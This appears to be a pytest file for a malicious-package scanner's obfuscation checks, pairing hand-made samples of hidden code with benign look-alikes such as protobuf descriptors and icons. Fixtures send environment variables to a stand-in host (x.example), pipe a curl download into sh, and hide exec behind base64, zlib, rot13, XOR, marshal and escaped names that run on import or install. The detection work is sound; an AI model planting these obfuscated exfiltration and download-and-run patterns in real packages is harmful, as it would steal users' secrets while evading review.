"""check_code on obfuscated code in the shapes real malicious uploads take (escaped exec names,
character pickers, lambda and layer chains, marshal blobs, generated names), each next to the
benign code it resembles: protobuf descriptors, icons, compat lookups, generated tables. Written
by hand: no name, address or string of a real sample."""

from __future__ import annotations

import ast
import base64
import codecs
import lzma
import marshal
import zlib

import pytest

from analysis.code import survey
from analysis.code.hits import Reach
from analysis.code.names import Names
from analysis.code.obfuscation import worth_reading
from analysis.code.scan import MAX_LAYERS
from analysis.model import Severity
from tests.analysis.code.members import WHEEL, C, H, L, M, laid_out, scan, setup_py, worst

STEAL = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://x.example/c', data=repr(dict(os.environ)).encode())\n"
)
ZB64 = base64.b64encode(zlib.compress(STEAL.encode())).decode()
INNER = f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{ZB64}')))\n"
OUTER = base64.b64encode(INNER.encode()).decode()  # code that unwraps more code
HELLO = "print('hello')\n"
HELLO_B64 = base64.b64encode(HELLO.encode() * 8).decode()


def escaped(text: str, form: str = "\\x{:02x}") -> str:
    """Text written one escape a character, the way obfuscators hide a name."""
    return "".join(form.format(ord(c)) for c in text)


def codes(text: str) -> str:
    return ", ".join(str(ord(c)) for c in text)


def imported(body: str, path: str = "demo/__init__.py") -> dict[str, str | bytes]:
    """A wheel whose package runs `body` on import (a module path: only when called)."""
    return {path: body}


EXE = base64.b64encode(b"MZ\x90\x00" + bytes(60) + b"This program cannot be run" + bytes(1200))
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()
MARSHALLED = base64.b64encode(zlib.compress(marshal.dumps(compile(HELLO, "x", "exec")))).decode()
NOISE = ["IlIlIlIlIl", "IllIllIlII", "lIlIIlIlIl", "IIlIlllIlI", "lIIlIlllII", "IlIIlllIlI"]
# generated names, more than enough alone: IlIIIII, IlIIIIl, ...
MANY = ["Il" + format(n, "05b").replace("0", "I").replace("1", "l") for n in range(31)]

CASES = [
    # ---- code hidden in literal layers, read at the reach of the code that holds it
    (
        imported(f"import base64\nexec(base64.b64decode('{OUTER}'))\n"),
        "code.decode-exec",
        C,
        "code in base64 that unwraps more code, run on import",
    ),
    (
        imported(f"import base64\nexec(base64.b64decode('{OUTER}'))\n"),
        "code.obfuscation",
        None,
        "code in a literal that is run is the decode-exec's, not also obfuscation",
    ),
    (
        setup_py(f"exec('{escaped(HELLO)}')\n"),
        "code.decode-exec",
        C,
        "code written in escapes and run: only the obfuscation survey sees it",
    ),
    (
        imported(f"import base64\nexec(base64.b64decode('{OUTER}'))\n"),
        "code.exfiltration",
        H,
        "what the second layer hides is read like the module's own code",
    ),
    (
        imported(
            f"_ = lambda __: __import__('base64').b64decode(__[::-1])\nexec((_)('{OUTER[::-1]}'))\n"
        ),
        "code.decode-exec",
        C,
        "a lambda that reverses and decodes, its result run on import",
    ),
    (
        setup_py(
            f"import codecs\nexec(codecs.decode({codecs.encode(STEAL, 'rot13')!r}, 'rot13'))\n"
        ),
        "code.exfiltration",
        C,
        "a rot13 layer read at install",
    ),
    (
        setup_py(
            "import lzma, base64\nexec(lzma.decompress(base64.b85decode("
            f"{base64.b85encode(lzma.compress(STEAL.encode())).decode()!r})))\n"
        ),
        "code.exfiltration",
        C,
        "an xz layer in base85",
    ),
    (
        setup_py(
            f"import base64\ns = {base64.b64encode(STEAL.encode()).decode()!r}\n"
            "code = base64.b64decode(s)\nexec(code)\n"
        ),
        "code.decode-exec",
        C,
        "the layer and the exec meet through names",
    ),
    (
        setup_py(
            f"import base64\ndef b64(s):\n    return base64.b64decode(s)\nexec(b64('{HELLO_B64}'))\n"
        ),
        "code.decode-exec",
        C,
        "a one-line decoding helper of the module's own",
    ),
    (
        setup_py("import base64\nunpack = lambda s: base64.b64decode(s)\nt = unpack(x)\nexec(t)\n"),
        "code.obfuscation",
        None,
        "a decoding helper given what the file does not hold",
    ),
    (
        setup_py(
            f"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('{MARSHALLED}'))))\n"
        ),
        "code.obfuscation",
        C,
        "a marshal blob, never loaded by us, run at install",
    ),
    (
        imported(
            f"import base64\nBIN = '{EXE.decode()}'\nopen('a.exe', 'wb').write(base64.b64decode(BIN))\n"
        ),
        "code.obfuscation",
        H,
        "a Windows program in base64, written out on import",
    ),
    (
        imported(f"import base64\nLATER = base64.b64decode('{HELLO_B64}')\n", "demo/util.py"),
        "code.obfuscation",
        None,
        "benign-looking: code in a literal of a module nothing imports",
    ),
    (
        imported(f"import base64\nLATER = base64.b64decode('{HELLO_B64}')\n"),
        "code.obfuscation",
        M,
        "code kept in base64 in a package's __init__, not run yet",
    ),
    # ---- exec reached under another spelling
    (
        setup_py(f"getattr(__builtins__, '{escaped('exec')}')('print(1)')\n"),
        "code.obfuscation",
        H,
        "exec's name in hex escapes at install",
    ),
    (
        setup_py(f"getattr(__builtins__, '{escaped('exec', chr(92) + '{:o}')}')('print(1)')\n"),
        "code.obfuscation",
        H,
        "exec's name in octal escapes",
    ),
    (
        imported(
            "f = getattr(__builtins__, str(eval)[-5] + str(hex)[-2] + str(eval)[-5] + oct.__str__()[-3])\n"
            "f('print(1)')\n"
        ),
        "code.obfuscation",
        H,
        "exec's letters picked from the names of other builtins, on import",
    ),
    (
        setup_py(f"exec(''.join(chr(c) for c in [{codes(HELLO)}]))\n"),
        "code.decode-exec",
        C,
        "code spelled in character codes and run",
    ),
    (
        setup_py(
            f"exec(''.join(chr(ord(c) ^ 7) for c in {''.join(chr(ord(c) ^ 7) for c in STEAL)!r}))\n"
        ),
        "code.decode-exec",
        C,
        "code decrypted character by character with XOR",
    ),
    (
        setup_py("IlIlIlIlIl = exec\nIlIlIlIlIl('print(1)')\n"),
        "code.obfuscation",
        H,
        "exec bound to a generated name",
    ),
    (
        setup_py("a, b, c = __import__, getattr, exec\n"),
        "code.obfuscation",
        H,
        "exec hidden in a tuple of builtins",
    ),
    (setup_py("run = exec\n"), "code.obfuscation", None, "exec bound to a plain name"),
    (
        {
            "demo-1.0/demo.pth": f"import sys; getattr(__builtins__, '{escaped('exec')}')('print(1)')\n",
            "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n",
        },
        "code.obfuscation",
        H,
        "a startup line with an escaped exec",
    ),
    (
        imported(
            "def outer():\n    def inner():\n        return getattr(__builtins__, 'ev' + 'al')\n"
            "    return inner\n",
            "demo/util.py",
        ),
        "code.obfuscation",
        L,
        "a built-up eval in a nested function nothing calls",
    ),
    (
        setup_py(f"NAME = 'plain text'\nx = '{escaped('exec')}'\n"),
        "code.obfuscation",
        H,
        "exec's escaped name kept for later, next to plain text",
    ),
    (
        setup_py(f"x = '''{escaped('import os')}\n{escaped('os.system')}'''\n"),
        "code.obfuscation",
        H,
        "code escaped across the lines of a long string",
    ),
    (
        setup_py("f = getattr(__builtins__, 'ev' + name)\n"),
        "code.obfuscation",
        L,
        "a builtin by a name the literals do not decide",
    ),
    (
        setup_py("m = __import__('o' + 's')\n"),
        "code.obfuscation",
        None,
        "a module by a built-up name, no exec",
    ),
    (
        setup_py("e = eval('exec')\ne('print(1)')\n"),
        "code.obfuscation",
        H,
        "eval fetching exec by its name",
    ),
    (
        setup_py("def f(*a):\n    return a\ns = ''\ns += 'x'\nf.n = 1\nf.n += 1\n"),
        "code.obfuscation",
        None,
        "a one-line helper the unwrapper cannot apply, and text built up",
    ),
    # ---- heavy obfuscation: several techniques, or one used many times
    (
        setup_py(";".join(f"{n} = '{escaped('abc')}'" for n in NOISE) + "\n"),
        "code.obfuscation",
        H,
        "generated names and escaped text: a pyobfuscate-style one-liner at install",
    ),
    (
        setup_py(
            ";".join(f"{n} = '{escaped('abc')}'" for n in NOISE)
            + f";{NOISE[0]}x = getattr(__builtins__, '{escaped('exec')}')\n"
        ),
        "code.obfuscation",
        C,
        "heavy obfuscation that also hides exec",
    ),
    (
        imported(
            "def go():\n"
            + "".join(f"    {n} = getattr(__builtins__, 'ch' + 'r')\n" for n in NOISE)
            + f"    return '{escaped('hidden')}' + '{escaped('text')}' + '{escaped('here')}'\n",
            "demo/tools.py",
        ),
        "code.obfuscation",
        M,
        "heavy obfuscation with computed builtins in a function",
    ),
    (
        imported("def go():\n" + "".join(f"    {n} = 1\n" for n in NOISE) + "go()\n"),
        "code.obfuscation",
        None,
        "generated names alone: minified, not hidden",
    ),
    (
        imported("def go():\n" + "".join(f"    {n} = 1\n" for n in MANY) + "    return 1\n"),
        "code.obfuscation",
        M,
        "generated names only, but very many, in an imported module's function",
    ),
    (
        imported(
            "def go():\n" + "".join(f"    {n} = 1\n" for n in MANY) + "    return 1\n",
            "demo/util.py",
        ),
        "code.obfuscation",
        None,
        "the same in a module nothing imports",
    ),
    # ---- benign look-alikes
    (
        imported(
            "from google.protobuf import descriptor_pool\nDESCRIPTOR = descriptor_pool.Default()"
            ".AddSerializedFile(b'\\n\\x0b\\x64\\x65\\x6d\\x6f\\x2e\\x70\\x72\\x6f\\x74\\x6f\\x12"
            "\\x04\\x64\\x65\\x6d\\x6f\\x22\\x11\\n\\x03Msg\\x12\\n\\n\\x02id\\x18\\x01 \\x01(\\tb"
            "\\x06proto3')\n",
            "demo/demo_pb2.py",
        )
        | {"demo/__init__.py": "from . import demo_pb2\n"},
        "code.obfuscation",
        None,
        "a protobuf descriptor escapes hex digits, C style",
    ),
    (
        imported(f"import base64\nICON = base64.b64decode('{PNG}')\n"),
        "code.obfuscation",
        None,
        "an icon decoded on import",
    ),
    (
        imported(
            "import base64\nNOTE = base64.b64decode('"
            + base64.b64encode(b"A note of many words, kept in base64 for no reason. " * 3).decode()
            + "')\n"
        ),
        "code.obfuscation",
        None,
        "text decoded on import",
    ),
    (
        imported(
            "def load(name):\n    return __import__('demo.plugins.' + name)\n", "demo/plugins.py"
        )
        | {"demo/__init__.py": "from .plugins import load\n"},
        "code.obfuscation",
        None,
        "plugins imported by a computed name",
    ),
    (
        imported("HELLO = ''.join(chr(c) for c in [72, 101, 108, 108, 111])\n"),
        "code.obfuscation",
        None,
        "a word spelled in character codes, never run",
    ),
    (
        imported("import codecs\nHINT = codecs.decode('uryyb jbeyq', 'rot13')\n"),
        "code.obfuscation",
        None,
        "a rot13 puzzle answer",
    ),
    (
        imported(f"GREETING = '{escaped('Hi')}' + '{escaped('you')}'\n"),
        "code.obfuscation",
        None,
        "a little escaped text",
    ),
    (
        imported(
            "import os\nDATA = bytes.fromhex('" + "00ff" * 40 + "')\n"
            "def run(path):\n    key = bytes.fromhex('" + "8f3a" * 16 + "')\n"
            "    code = decrypt(open(path, 'rb').read(), key)\n    exec(code)\n",
            "demo/loader.py",
        ),
        "code.obfuscation",
        None,
        "a key decoded from hex decrypts a file that is run",
    ),
    (
        imported(
            "_tabversion = '3.10'\n_lr_action_items = {'NAME': ([0, 2, 5], [3, 3, 3])}\n"
            "_lr_action = {}\nfor _k, _v in _lr_action_items.items():\n"
            "    for _x, _y in zip(_v[0], _v[1]):\n        _lr_action.setdefault(_x, {})[_k] = _y\n"
        ),
        "code.obfuscation",
        None,
        "a generated parser table",
    ),
    (
        imported("import sys\n_ = sys.modules\n____ = None\n"),
        "code.obfuscation",
        None,
        "a single placeholder name",
    ),
    (
        imported(
            "def test_exec():\n    exec(compile('x = 1', '<t>', 'exec'))\n", "demo/tests/test_x.py"
        ),
        "code.obfuscation",
        None,
        "a test running a literal",
    ),
]


@pytest.mark.parametrize(
    ("files", "check_id", "severity", "reason"), CASES, ids=[c[3] for c in CASES]
)
def test_obfuscation_shapes(
    files: dict[str, str | bytes], check_id: str, severity: Severity | None, reason: str
) -> None:
    assert worst(laid_out(files), check_id) == severity, reason


def test_a_hidden_threat_is_placed_on_the_literal_and_names_each_layer() -> None:
    files = imported(f"import base64\n\nexec(base64.b64decode('{OUTER}'))\n")
    (hit,) = [f for f in scan(files, WHEEL) if f.check_id == "code.exfiltration"]
    assert hit.evidence["line"] == 3
    assert hit.evidence["decoded"] == "b64decode + b64decode + decompress"
    assert hit.summary.count("in code hidden by") == 1


def test_the_obfuscation_evidence_lists_techniques_and_what_they_spell() -> None:
    files = setup_py(f"getattr(__builtins__, '{escaped('exec')}')('print(1)')\n")
    (hit,) = [f for f in scan(files) if f.check_id == "code.obfuscation"]
    assert hit.evidence["techniques"] == {survey.ESCAPED: 1}
    assert hit.evidence["revealed"] == ["exec"]


def test_layers_are_read_so_deep_and_no_deeper() -> None:
    code = STEAL
    for _ in range(MAX_LAYERS + 2):
        code = (
            f"import base64\nexec(base64.b64decode('{base64.b64encode(code.encode()).decode()}'))\n"
        )
    found = scan(setup_py(code))
    assert worst(found, "code.decode-exec") == C
    assert worst(found, "code.exfiltration") is None
    for _ in range(3):  # MAX_LAYERS - 1 wrappings in all
        code = code[code.index("'") + 1 : code.rindex("'")]
        code = base64.b64decode(code).decode()
    assert worst(scan(setup_py(code)), "code.exfiltration") == C


def test_code_nested_past_the_parser_is_read_with_regexes() -> None:
    files = setup_py(
        "x = " + "'a' + " * 5000 + "'a'\nimport os; os.system('curl https://x.example | sh')\n"
    )
    assert worst(scan(files), "code.download-exec") is not None


def test_unparseable_python_with_escapes_is_not_read_for_obfuscation() -> None:
    files = imported(f"x = '{escaped('exec')}'\nprint 'python 2'\n", "demo/old.py")
    assert worst(scan(files, WHEEL), "code.obfuscation") is None


PREFILTER = [
    (b"getattr(__builtins__, n)", Reach.RUNTIME, True, "builtins looked up"),
    (b"import marshal\nmarshal.loads(x)", Reach.RUNTIME, True, "marshal"),
    (f"x = '{escaped('exec')}'".encode(), Reach.RUNTIME, True, "escapes that spell letters"),
    (b"x = '\\x58\\x59\\x5a'", Reach.RUNTIME, True, "escaped capitals"),
    (b"x = '\\x31\\x32\\x33\\x61'", Reach.RUNTIME, False, "hex digits escaped, C style"),
    (b"IlIlIlIl = 1", Reach.RUNTIME, False, "generated names when called"),
    (b"IlIlIlIl = 1", Reach.IMPORT, True, "generated names on import"),
    (b"O0O0O0O0 = 1", Reach.IMPORT, True, "O and 0 names"),
    (b"IlI = 1 # O0O", Reach.IMPORT, False, "too short to be generated"),
    (b"_____ = 1", Reach.IMPORT, True, "a run of underscores"),
    (b"# ________ a rule", Reach.IMPORT, False, "a comment rule"),
    (
        b"from setuptools import setup\nsetup(name='x')",
        Reach.INSTALL,
        False,
        "a plain setup.py holds nothing to hide code with",
    ),
    (b"import base64\nexec(base64.b64decode(x))", Reach.INSTALL, True, "setup.py with a sink"),
    (b"x = '\\x65\\x78'", Reach.INSTALL, True, "setup.py with escapes"),
    (b"n = 'na\xc3\xafve'", Reach.STARTUP, True, "a start-up file with non-ASCII text"),
    (b"f = lambda: 1", Reach.INSTALL, True, "setup.py with a lambda chain's first link"),
    (b"base64.b64decode('" + b"QUJD" * 40 + b"')", Reach.IMPORT, True, "a long literal decoded"),
    (b"base64.b64decode(name)", Reach.IMPORT, False, "a decoder without a literal"),
    (
        b"base64.b85decode('" + base64.b85encode(bytes(range(256))) + b"')",
        Reach.IMPORT,
        True,
        "a long base85 literal decoded",
    ),
    (b"x = '" + b"QUJD" * 40 + b"'", Reach.IMPORT, False, "a literal nothing decodes"),
]


@pytest.mark.parametrize(
    ("data", "reach", "expected", "reason"), PREFILTER, ids=[p[3] for p in PREFILTER]
)
def test_worth_reading(data: bytes, reach: Reach, expected: bool, reason: str) -> None:
    assert worth_reading(data, reach) is expected, reason


def test_only_so_many_escape_runs_are_looked_at() -> None:
    digits = b"'\\x31\\x32\\x33' " * (survey.MAX_RUNS + 1)
    assert not survey.spelled_in_escapes(digits + f"'{escaped('exec')}'".encode())


NOISE_NAMES = [
    ("____", True, "underscores only"),
    ("IlIlIlI1", True, "I, l and 1"),
    ("_0x1f2e", True, "a hex counter"),
    ("aAaAAaaA", True, "one letter in both cases"),
    ("kQZxpLMwvRTybNCjhGFd", True, "random mixed case"),
    ("getHttpResponseHeaderValue", False, "camelCase"),
    ("HTTPServerConnection", False, "an acronym then words"),
    ("名前名前名前名前", True, "a repeated non-ASCII alphabet"),
    ("数据处理函数模块", False, "non-ASCII words"),
    ("value", False, "a word"),
]


@pytest.mark.parametrize(
    ("name", "expected", "reason"), NOISE_NAMES, ids=[n[2] for n in NOISE_NAMES]
)
def test_noise(name: str, expected: bool, reason: str) -> None:
    assert survey.noise(name) is expected, reason


def test_encoded_program() -> None:
    assert survey.encoded_program(EXE)
    assert survey.encoded_program(base64.b16encode(b"\x7fELF" + bytes(600)).decode())
    assert not survey.encoded_program(PNG)
    assert not survey.encoded_program("!" * 2000)
    assert not survey.program_magic(b"MZ" + bytes(2000))


def test_python_source() -> None:
    assert survey.python_source(b"import os\nos.system('x')\n") is not None
    assert survey.python_source(b"\xff\xfe import") is None
    assert survey.python_source("just words") is None
    assert survey.python_source("import (") is None
    assert survey.python_source("'a docstring, = nothing else'") is None
    assert survey.python_source("x = 1\n" * (survey.MAX_PARSE // 6 + 1)) is None


def _surveyed(source: str) -> survey.Survey:
    tree = ast.parse(source)
    names = Names()
    names.learn(tree.body)
    found = survey.Survey(tree, source.encode(), names, True, frozenset())
    found.run()
    return found


def test_text_built_up_with_augmented_assignment_reaches_the_sink() -> None:
    blob = base64.b64encode(b"print('hello from a hidden layer')").decode()
    hidden = _surveyed(
        f"import base64\ncode = ''\ncode += base64.b64decode('{blob}').decode()\nexec(code)\n"
    )
    assert hidden.payload_sinks == [True]
    plain = _surveyed("import base64\ncode = ''\ncode += 'print(1)'\nexec(code)\n")
    assert plain.payload_sinks == []


def test_a_helper_the_unwrapper_cannot_apply_teaches_it_nothing() -> None:
    found = _surveyed(
        "def unpack(s, key=1):\n    return mystery(s)\nfiles = ['a', 'b']\nx, y = 'ab', [1]\n"
        "counts = {}\ncounts['a'] += 1\nexec(unpack('cHJpbnQoMSk='))\n"
    )
    assert "unpack" not in found.unwrapper.env  # a default argument: not a one-step decoder
    assert found.unwrapper.env["x"] == "ab"
    assert "files" not in found.unwrapper.env  # data literals are not read
    assert "y" not in found.unwrapper.env
    assert found.payload_sinks == []
